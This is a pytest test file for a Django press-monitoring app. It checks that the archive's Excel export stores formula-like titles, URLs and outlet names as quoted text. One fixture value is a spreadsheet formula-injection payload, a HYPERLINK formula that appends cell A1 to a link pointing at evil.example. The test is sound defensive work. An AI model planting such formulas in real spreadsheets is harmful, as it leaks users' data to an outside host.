"""The archive workbook never carries a formula: title, address and outlet that look like one stay text."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pressdesk.monitoring.tests.factories import OutletFactory, SourceFactory

pytestmark = pytest.mark.django_db


def test_formula_like_title_url_and_outlet_are_exported_as_text(province, login):
    source = SourceFactory(organization=province.directorate, outlet=OutletFactory(name="@SUM(A1:A9)"))
    source.items.create(
        outlet=source.outlet,
        identity_hash="a",
        title="+1",
        url='=HYPERLINK("https://evil.example/?"&A1,"tıkla")',
    )
    source.items.create(outlet=source.outlet, identity_hash="b", title="-2+3", url="https://example.com/b")
    response = login(province.staff).get(reverse("monitoring:archive_export"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = {row[2]: row for row in book.active.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {"'+1", "'-2+3"}
    assert rows["'+1"][1] == "'@SUM(A1:A9)"
    assert rows["'+1"][3] == '\'=HYPERLINK("https://evil.example/?"&A1,"tıkla")'
    assert rows["'-2+3"][3] == "https://example.com/b"
    for cell in book.active.iter_rows():
        for value in cell:
            assert value.data_type != "f"
